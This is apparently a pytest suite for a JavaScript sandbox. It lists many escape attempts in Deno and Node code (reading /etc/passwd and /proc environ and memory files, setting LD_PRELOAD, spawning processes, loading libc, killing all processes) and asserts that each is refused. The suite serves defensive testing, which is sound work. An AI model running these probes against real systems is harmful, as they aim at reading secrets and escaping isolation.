"""Attacks on files, variables, processes and facts of the machine. Each must name its refusal."""

import pytest

from tests.attacks.arena import Arena

pytestmark = pytest.mark.runtime

HOST_FILE = "D.mainModule.slice(7)"
BUNDLE = f'{HOST_FILE}.replace("built/host.js", "bundles/lodash.cjs")'
ABOVE = f'{HOST_FILE}.replace("built/host.js", "bundles/../built/host.js")'
REFUSED = {
    # what: (the error, the code)
    "password file by fs": ("NotCapable", 'return require("fs").readFileSync("/etc/passwd")'),
    "password file by Deno": ("NotCapable", 'return D.readTextFileSync("/etc/passwd")'),
    "canary by fs": ("NotCapable", "return require('fs').readFileSync(canary)"),
    "canary by promises": ("NotCapable", "return require('fs').promises.readFile(canary)"),
    "canary by Deno": ("NotCapable", "return D.readTextFile(canary)"),
    "canary by a URL": ("NotCapable", "return D.readTextFile(new URL('file://' + canary))"),
    "canary by open": ("NotCapable", "return (await D.open(canary)).readable.getReader().read()"),
    "canary by a path of bytes": (
        "NotCapable",
        "return require('fs').readFileSync(Buffer.from(canary))",
    ),
    "canary by another way": (
        "NotCapable",
        "return require('fs').readFileSync('/proc/self/root' + canary)",
    ),
    "canary by cwd": ("NotCapable", "return require('fs').readFileSync('/proc/self/cwd' + canary)"),
    "canary above bundles": (
        "NotCapable",
        f'return D.readTextFileSync({BUNDLE} + "/../../../../../../../../../" + canary)',
    ),
    "canary by a path that changes": (
        "NotCapable",
        f"""let n = 0;
        const path = {{ toString: () => n++ ? canary : {BUNDLE} }};
        return D.readTextFileSync(String(path) && path.toString())""",
    ),
    "canary by fetch": ("NotCapable", "return (await fetch('file://' + canary)).text()"),
    "canary by a stream": (
        "NotCapable",
        """return new Promise((done, no) => require("fs").createReadStream(canary)
            .on("error", no).on("data", done))""",
    ),
    "canary by copy": ("NotCapable", "return D.copyFileSync(canary, '/tmp/attack')"),
    "canary by a link": ("NotCapable", "return D.linkSync(canary, '/tmp/attack')"),
    "canary by a symbolic link": ("NotCapable", "return D.symlinkSync(canary, '/tmp/attack')"),
    "canary by truncation": ("NotCapable", "return D.truncateSync(canary)"),
    "canary by removal": ("NotCapable", "return D.removeSync(canary)"),
    "canary by renaming": ("NotCapable", "return D.renameSync(canary, canary + '-attack')"),
    "canary by watch": ("NotCapable", "return D.watchFs(canary)"),
    "canary by exists": ("NotCapable", "return require('fs').existsSync(canary)"),
    "canary by createRequire": (
        "NotCapable",
        "return (await node('module')).createRequire('/x.js')(canary)",
    ),
    "canary by import": ("TypeError", "return import('file://' + canary)"),
    "canary by import of text": (
        "TypeError",
        "return import('file://' + canary, { with: { type: 'text' } })",
    ),
    "canary by import of bytes": (
        "TypeError",
        "return import('file://' + canary, { with: { type: 'bytes' } })",
    ),
    "canary by import in data": (
        "TypeError",
        """return import(`data:text/javascript,import x from "file://${canary}"
            with { type: "text" }; export default x`)""",
    ),
    "canary by a module's loader": (
        "NotCapable",
        "const M = (await node('module')).Module; return M._load(canary)",
    ),
    "canary by module extensions": (
        "NotCapable",
        """const M = (await node('module')).Module;
        return M._extensions['.json']({ paths: [] }, canary)""",
    ),
    "canary by sqlite": (
        "NotCapable",
        "return new (await node('sqlite')).DatabaseSync(canary).prepare('select 1').get()",
    ),
    "canary by sqlite's attach": (
        "Error",
        """return new (await node('sqlite')).DatabaseSync(':memory:')
            .exec(`attach '${canary}' as x`)""",
    ),
    "canary by a WASI": (
        "Error",
        "return new (await node('wasi')).WASI({ version: 'preview1', preopens: { '/': '/' } })",
    ),
    "canary by an environment file": (
        "NotCapable",
        "return require('process') && (await node('process')).loadEnvFile(canary)",
    ),
    "canary by a certificate": (
        "NotCapable",
        "return D.createHttpClient({ caCerts: [D.readTextFileSync(canary)] })",
    ),
    "host script above bundles": ("NotCapable", f"return D.readTextFileSync({ABOVE})"),
    "host script": ("NotCapable", f"return D.readTextFileSync({HOST_FILE})"),
    "environment of the process": ("NotCapable", "return D.readTextFileSync('/proc/self/environ')"),
    "environment of the supervisor": (
        "NotCapable",
        "return D.readTextFileSync(`/proc/${(await node('process')).ppid}/environ`)",
    ),
    "memory of the supervisor": ("NotCapable", "return D.openSync('/proc/1/mem')"),
    "directory": ("NotCapable", "return [...D.readDirSync('/')]"),
    "directory by glob": ("NotCapable", "return require('fs').globSync('/*')"),
    "file by descriptor": ("NotCapable", "return D.readTextFileSync('/dev/fd/0')"),
    "shared memory": ("NotCapable", "return D.writeTextFileSync('/dev/shm/attack', 'x')"),
    "out-of-memory score": (
        "NotCapable",
        "return D.writeTextFileSync('/proc/self/oom_score_adj', '-1000')",
    ),
    "share of the CPU": ("NotCapable", "return D.writeTextFileSync('/proc/self/autogroup', '-20')"),
    "temporary folder": ("NotCapable", "return D.makeTempDirSync()"),
    "temporary folder by fs": ("NotCapable", "return require('fs').mkdtempSync('/tmp/attack')"),
    "other working directory": ("NotCapable", "return D.chdir('/tmp')"),
    "cache storage": ("Error", "return caches.open('attack')"),
    "key-value storage": ("TypeError", "return D.openKv('/tmp/attack')"),
    "storage": ("TypeError", "return globalThis.localStorage.setItem('a', 'b')"),
    "heap snapshot": ("NotCapable", "return (await node('v8')).writeHeapSnapshot('/tmp/attack')"),
    "environment by Deno": ("NotCapable", "return D.env.toObject()"),
    "variable by Deno": ("NotCapable", "return D.env.get('HOUSTON_CANARY')"),
    "environment by another object": (
        "NotCapable",
        "return { ...(await node('process')).env }.HOUSTON_CANARY",
    ),
    "environment by the global": (
        "NotCapable",
        "return D[D.internal].nodeUnstable, (await node('process')).default.env.HOUSTON_CANARY",
    ),
    "setting a variable": ("NotCapable", "return D.env.set('LD_PRELOAD', '/tmp/attack.so')"),
    "process": ("NotCapable", "return new D.Command('/bin/true').outputSync()"),
    "process of Deno's": (
        "NotCapable",
        "return new D.Command(D.execPath(), { args: ['eval', '1'] }).spawn().status",
    ),
    "process by Node": (
        "NotCapable",
        "return process.getBuiltinModule('child_process').execSync('id')",
    ),
    "process by fork": ("NotCapable", "return (await node('child_process')).fork('x.js')"),
    "process by cluster": (
        "NotCapable",
        "const c = await node('cluster'); return new Promise((d, no) => c.default.fork())",
    ),
    "library": ("NotCapable", "return D.dlopen('/lib/x86_64-linux-gnu/libc.so.6', {})"),
    "library of Node's": (
        "NotCapable",
        "return (await node('process')).dlopen({ exports: {} }, '/lib/libc.so.6')",
    ),
    "pointers": ("NotCapable", "return new D.UnsafePointerView(D.UnsafePointer.create(4096n))"),
    "pointer of a buffer": ("NotCapable", "return D.UnsafePointer.of(new Uint8Array(8))"),
    "function pointers": (
        "NotCapable",
        "return new D.UnsafeCallback({ parameters: [], result: 'void' }, () => {})",
    ),
    "signal to the supervisor": ("NotCapable", "return D.kill(D.ppid, 'SIGKILL')"),
    "signal to everybody": ("NotCapable", "return D.kill(-1, 'SIGKILL')"),
    "signal by Node": ("NotCapable", "return (await node('process')).kill(1, 9)"),
    "inspector": ("NotCapable", "return (await node('inspector')).open(0)"),
    "name of the machine": ("NotCapable", "return D.hostname()"),
    "interfaces": ("NotCapable", "return D.networkInterfaces()"),
    "processors": ("NotCapable", "return require('os').cpus()"),
    "memory of the machine": ("NotCapable", "return D.systemMemoryInfo()"),
    "load of the machine": ("NotCapable", "return D.loadavg()"),
    "users": ("NotCapable", "return require('os').userInfo()"),
    "user number": ("NotCapable", "return D.uid()"),
    "priority of others": ("NotCapable", "return require('os').setPriority(1, -20)"),
    "release of the system": ("NotCapable", "return D.osRelease()"),
    "permissions asked for": (
        "Error",
        """const names = ['read', 'write', 'net', 'env', 'run', 'ffi', 'sys', 'import'];
        for (const name of names) {
          const { state } = await D.permissions.request({ name });
          if (state === 'granted') return name;
        }
        throw new Error('denied')""",
    ),
    "import over the network": ("TypeError", "return import('https://203.0.113.10/x.js')"),
    "import of a package": ("TypeError", "return import('npm:left-pad')"),
    "import of a registry's": ("TypeError", "return import('jsr:@std/path')"),
    "import of a blob": (
        "NotCapable",
        """const code = 'export default Deno.readTextFileSync(' + JSON.stringify(canary) + ')';
        return (await import(URL.createObjectURL(new Blob([code], {type: 'text/javascript'}))))""",
    ),
    "another context": (
        "NotCapable",
        """const read = () => D.readTextFileSync(canary);
        return require('vm').runInNewContext('read()', { read })""",
    ),
    "shadow realm": ("ReferenceError", "return new ShadowRealm().evaluate('1')"),
    "code of another realm": (
        "NotCapable",
        "return (() => 1).constructor('return Deno')().readTextFileSync(canary)",
    ),
}


@pytest.mark.parametrize("attack", REFUSED)
def test_refused(arena: Arena, attack: str) -> None:
    error, code = REFUSED[attack]

    assert arena.probe(code) == error


WORKERS = {
    "of a file": "new D_Worker('file://' + canary, { type: 'module' })",
    "of data": "new D_Worker('data:text/javascript,for(;;);', { type: 'module' })",
    "with all permissions": """new D_Worker('data:text/javascript,for(;;);',
        { type: 'module', deno: { permissions: 'inherit' } })""",
}


@pytest.mark.parametrize("attack", WORKERS)
def test_worker(arena: Arena, attack: str) -> None:
    code = WORKERS[attack].replace("D_Worker", "globalThis.Worker")

    assert arena.probe(f"return {code}") == "TypeError"


def test_watched_file_looks_as_if_it_were_not_there(arena: Arena) -> None:
    watch = "require('fs').watchFile(canary, (now) => done(now.mtimeMs + now.size + now.ino))"

    assert arena.probe(f"return new Promise((done) => {watch})") == "reached: 0"


def test_bundles_are_all_that_can_be_read(arena: Arena) -> None:
    """What a package consists of is no secret."""
    assert arena.probe(f"return D.readTextFileSync({BUNDLE}).length > 1000") == "reached: true"
